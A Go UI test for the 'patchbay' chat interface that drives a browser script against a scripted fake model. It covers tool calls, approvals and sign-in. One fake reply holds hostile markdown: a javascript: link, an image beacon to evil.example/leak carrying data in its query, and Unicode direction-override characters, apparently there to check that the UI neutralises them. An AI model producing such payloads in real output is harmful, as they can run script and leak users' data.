package ui

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"patchbay"
	"patchbay/internal/testkit"
)

// chatLimit bounds everything that the browser does in chats.
const chatLimit = 240 * time.Second

// TestChat is chat.mjs: from the first message to what a run waits for, by mouse, by
// keyboard and on a phone, with a model that says what is written here.
func TestChat(t *testing.T) {
	chromium := needs(t)
	auth := testkit.NewAuthServer(t, testkit.AuthServerOptions{Manual: true})
	echo := testkit.NewEcho(t, testkit.EchoOptions{})
	protected := auth.Protect(t, echo, testkit.ProtectOptions{})
	models := testkit.NewModels(t, script()...)
	config := strings.NewReplacer("BIN", os.Getenv(binaryEnv), "PROTECTED", protected.URL(), "MODELS", models.URL().String()).Replace(`version: 1.2.8
mcpServers:
  demo:
    title: Demo tools
    command: BIN/patchbay
    args: [demo-server]
  careful:
    title: Careful
    command: BIN/patchbay
    args: [demo-server]
    approval: { "*": always }
  notes:
    title: Notes
    type: streamable-http
    url: PROTECTED
    approval: { "*": never }
endpoints:
  custom:
    - name: box
      apiKey: fake-model-key
      baseURL: MODELS/v1
      titleConvo: false
      models: { default: [fake-large, fake-small] }
`)
	i := startInstance(t, config)
	shots, err := filepath.Abs("../../out/ui")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), chatLimit)
	defer cancel()
	cmd := exec.CommandContext(ctx, "node", "chat.mjs")
	cmd.Env = append(os.Environ(), "UI_URL="+i.url, "UI_SETUP="+i.setupLink, "UI_REMOTE="+i.remote(t), "UI_SHOTS="+shots, "UI_CHROMIUM="+chromium)
	out, err := cmd.CombinedOutput()
	t.Logf("%s", out)
	if err != nil {
		t.Error(err)
	}
}

// script is what the model says, in the order in which chat.mjs asks.
func script() []testkit.ModelReply {
	replies := []testkit.ModelReply{
		// the first message
		calls("first", "add_mcp_demo", `{"a":9007199254740993,"b":1}`),
		says("The sum is **9007199254740994**.\n\n```ts\nconst sum = 9007199254740993n + 1n;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
		// once more
		says("It is still 9007199254740994."),
		// what models write and must not do
		says(markup + "\n\n[link](javascript:window.owned=1) ![leak](https://evil.example/leak?d=1) \u202eabc\u200b\n\n```html\n" + markup + "\n```"),
	}
	// a question, by mouse, by keyboard and on a phone
	for _, way := range []string{"mouse", "keyboard", "phone"} {
		replies = append(replies,
			calls("ask-"+way, "ask_mcp_demo", `{}`, "fail_mcp_careful", `{}`),
			says("Both are done, by "+way+"."))
	}
	return append(replies,
		// a sign-in, which the run waits for
		calls("sign", "echo_mcp_notes", `{"text":"hello notes"}`),
		says("Notes said hello."),
		// an answer that patchbay does not live to see the end of
		testkit.ModelReply{Message: saying(strings.Repeat("A long story goes on. ", 200)), Stall: 6000},
		says("and so it ended."))
}

func saying(text string) *patchbay.Message {
	m := patchbay.TextMessage(patchbay.FromModel, text)
	m.Stop, m.Usage = patchbay.StopEnd, &patchbay.Usage{Input: 120, Output: 30}
	return &m
}

func says(text string) testkit.ModelReply { return testkit.ModelReply{Message: saying(text)} }

// calls is an answer that asks for tools: name, arguments, name, arguments, …
func calls(id string, pairs ...string) testkit.ModelReply {
	m := patchbay.Message{Role: patchbay.FromModel, Stop: patchbay.StopCalls, Usage: &patchbay.Usage{Input: 100, Output: 20}}
	for i := 0; i+1 < len(pairs); i += 2 {
		m.Parts = append(m.Parts, patchbay.Part{Kind: patchbay.PartCall, Call: &patchbay.ToolCall{ID: id + "-" + pairs[i], Name: pairs[i], Args: pairs[i+1]}})
	}
	return testkit.ModelReply{Message: &m}
}
